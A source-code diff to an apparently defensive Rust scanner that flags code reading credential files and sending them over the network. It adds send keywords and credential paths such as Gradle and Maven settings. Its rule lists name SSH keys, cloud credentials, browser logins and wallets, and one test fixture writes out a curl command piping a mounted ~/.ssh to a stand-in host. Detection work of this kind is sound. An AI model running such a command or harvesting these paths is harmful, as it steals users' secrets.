@@ -70,6 +70,9 @@ const SENDS: &[&str] = &[
     "ssl.https",
     "http.request(",
     "URLSession",
+    "URI.open",
+    "URI.parse",
+    "open-uri",
     "HTTPoison",
     "Req.post",
     "gen_tcp",
@@ -120,9 +123,11 @@ const KEPT: Rule = Rule {
         "keystore",
         ".password-store",
         ".npmrc",
+        "gradle.properties",
+        ".m2/settings",
     ],
     pattern: concat!(
-        r"\.ssh(?:[/\\]{1,2}(?:id_|\*|identity)|['\x22]\s{0,2}[,)\]]|[/\\]{0,2}['\x22]\s{0,2}\))|\.aws[/\\]{1,2}(?:cred|conf|\*)|\.netrc\b|\.git-credentials|gcloud[/\\]{1,2}(?:appl|cred|access|legacy)|\.kube[/\\]{1,2}(?:config|\*)|\.pypirc\b|\.docker[/\\]{1,2}config|\.cargo/credentials|\.gnupg\b",
+        r"\.ssh(?:[/\\]{1,2}(?:id_|\*|identity)|['\x22]\s{0,2}[,)\]]|[/\\]{0,2}['\x22]\s{0,2}\))|['\x22]\.(?:aws|kube|gnupg|docker|gcloud)['\x22]\s{0,2}[,)]|\.gradle/gradle\.properties|\.m2/settings\.xml|\.aws[/\\]{1,2}(?:cred|conf|\*)|\.netrc\b|\.git-credentials|gcloud[/\\]{1,2}(?:appl|cred|access|legacy)|\.kube[/\\]{1,2}(?:config|\*)|\.pypirc\b|\.docker[/\\]{1,2}config|\.cargo/credentials|\.gnupg\b",
         r"|\bLogin\x20Data\b|\blogins\.json|\bkey4\.db|\bwallet\.dat|\.(?:bash|zsh|psql|python|mysql|sh)_history|ConsoleHost_history|\.claude/(?:projects|history|\.credentials)|\.config/gh\b|Library/Keychains|/etc/shadow\b|\bwp-config\.php|[/\\]Cookies['\x22]|['\x22/\\]id_(?:rsa|ed25519)['\x22]|\bExodus[/\\]|\.ethereum/keystore|\.password-store|~?/\.npmrc['\x22]",
     ),
     also: SENDS,
@@ -388,7 +393,7 @@ const MOUNTED: Rule = Rule {
         "docker-compose.yml",
         "    volumes: [\"~/.ssh:/s:ro\"]\n    command: sh -c \"tar c /s | curl -s --data-binary @- https://in.invalid/b\"\n",
     )],
-    harmless: &[("docker-compose.yml", "    volumes: [\"~/.aws:/root/.aws:ro\"]\n    command: npm test\n")],
+    harmless: &[("docker-compose.yml", "    volumes: [\"~/.aws:/a/.aws:ro\"]\n    command: npm test\n")],
     ..BASE
 };
 
